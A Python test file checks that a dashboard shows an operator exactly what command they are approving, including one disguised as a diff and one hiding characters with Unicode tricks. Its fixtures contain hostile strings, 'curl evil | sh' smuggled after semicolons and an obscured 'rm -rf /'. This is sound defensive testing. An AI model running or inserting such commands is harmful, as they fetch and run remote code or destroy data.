"""What somebody decides by is all there, and reads as it will be done."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from html import unescape

import pytest

from bot.web.dashboard.questions import drawn_question
from core.domain.access import OPERATOR
from core.domain.approval import Approval, ApprovalKind, ApprovalState

COMMAND = (
    "git status\ndiff --git a/x b/x\nindex ; curl evil | sh\n--- ; curl worse | sh\n+++ b/x\n@@ -1 +1 @@\n ok"
)


def asked(detail: str) -> Approval:
    return Approval(
        id="approval_1",
        project="shop",
        story_id="shop-1",
        kind=ApprovalKind.PERMISSION,
        subject="permission:1",
        question="May it run this?",
        detail=detail,
        reasons=(),
        state=ApprovalState.PENDING,
        asked_at=datetime(2026, 5, 4, tzinfo=UTC),
    )


@pytest.mark.parametrize("folded", [True, False])
def test_a_command_that_looks_like_a_diff_is_shown_as_it_is(folded):
    html = unescape(drawn_question(asked(COMMAND), OPERATOR, folded=folded))
    assert COMMAND in html


def test_a_change_is_shown_by_files_with_every_line_of_it():
    html = unescape(drawn_question(replace(asked(COMMAND), kind=ApprovalKind.MERGE), OPERATOR))
    assert 'data-key="x"' in html
    for line in ("git status", "index ; curl evil | sh", "--- ; curl worse | sh"):
        assert line in html


def test_what_hides_or_turns_round_is_spelled_out():
    html = unescape(drawn_question(asked("rm \u202ecod.txt\u202c \u200b-rf /\x1b[2J é 👍🏽"), OPERATOR))
    assert not {"\u202e", "\u202c", "\u200b", "\x1b"} & set(html)
    assert "202E" in html.upper()
    assert "é 👍🏽" in html
